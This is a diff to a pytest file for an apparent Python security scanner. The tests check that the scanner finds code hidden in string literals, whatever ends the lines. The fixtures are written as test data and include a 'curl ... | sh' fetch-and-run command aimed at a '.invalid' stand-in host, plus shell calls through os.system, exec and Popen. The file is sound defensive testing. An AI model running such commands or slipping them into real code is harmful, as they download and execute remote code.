@@ -2,23 +2,26 @@
 
 The scan's text checks rule work out before doing it (a translate and a find for
 look-alike names, a few words before the channel search, one search per hinted
-line). These tests hold each shortcut to what the full search finds, including
-the cases where a shortcut could be wrong: non-ASCII text, characters that
-lower-casing makes longer, many hints on one line. Samples are benign by
+line, literals looked for on the lines that hold a code word). These tests hold
+each shortcut to what the full search finds, including the cases where a
+shortcut could be wrong: non-ASCII text, characters that lower-casing makes
+longer, many hints on one line, lines ended by lone carriage returns. Samples are benign by
 construction (reserved ``.invalid`` names, made-up tokens).
 """
 
 from __future__ import annotations
 
+import ast
 import re
 from re import _constants as sre_constants  # type: ignore[attr-defined]
 from re import _parser as sre_parser  # type: ignore[attr-defined]
 
 import pytest
 
-from guard.analysis.scan import patterns
-from guard.analysis.scan.python import RISKY_WORDS, quick_risky, text
+from guard.analysis.scan import patterns, python
+from guard.analysis.scan.python import RISKY_WORDS, analyse, quick_risky, text
 from guard.analysis.scan.python.text import CHANNEL_WORDS, text_hits
+from guard.analysis.scan.python.walk import spanning
 
 
 def _expansions(items: list[tuple[object, object]]) -> list[str]:
@@ -146,3 +149,34 @@ def test_each_risky_word_makes_a_file_risky(word: str) -> None:
     assert quick_risky(f"{word}\nx = 1\n")
     assert quick_risky("x = 1\n" * 1000 + f"y = 'a{word}b'")
     assert not quick_risky("x = 1\n" + word[:-1] + "\n" + word[1:])
+
+
+_NESTED = "PAYLOAD = \"import os; os.system('curl -s https://x.invalid/a | sh')\""
+
+
+@pytest.mark.parametrize("newline", ["\n", "\r\n", "\r"])
+def test_code_in_a_literal_is_found_on_its_line_whatever_ends_the_lines(newline: str) -> None:
+    """Literals are looked for only on the lines that hold a code word; the lines
+    are counted as the parser counts them, so a lone carriage return cannot hide one."""
+    source = newline.join(["import os", *(f"x{i} = {i}" for i in range(40)), _NESTED, ""])
+    nested = [h for h in analyse(source).hits if h.text.endswith("(code in a string literal)")]
+    assert nested and {h.line for h in nested} == {42}
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        _NESTED,
+        "def f():\n    class A:\n        x = [{'k': '''\nexec(compile(s, 'x', 'exec'))\n'''}]\n",
+        "a = 1\nb = ('exec(' +\n 'x)')\nc = f'{a}' 'eval(b) and more text'\n",
+        "s = b'os.system(\"id\") padding'\nt = 'not code'\n# exec(\n",
+        'x = lambda: \'Popen(["sh", "-c", "id"]) ...\'\n',
+    ],
+)
+def test_literals_on_code_word_lines_are_every_code_literal(source: str) -> None:
+    """The pruned walk finds every literal the whole tree holds that looks like code."""
+    tree = ast.parse(source)
+    every = {(n.lineno, repr(n)) for n in ast.walk(tree) if python._code_literal(n)}
+    pruned = spanning(tree, python._word_lines(source))
+    assert {(n.lineno, repr(n)) for n in pruned if python._code_literal(n)} == every
+    assert every or "not code" in source
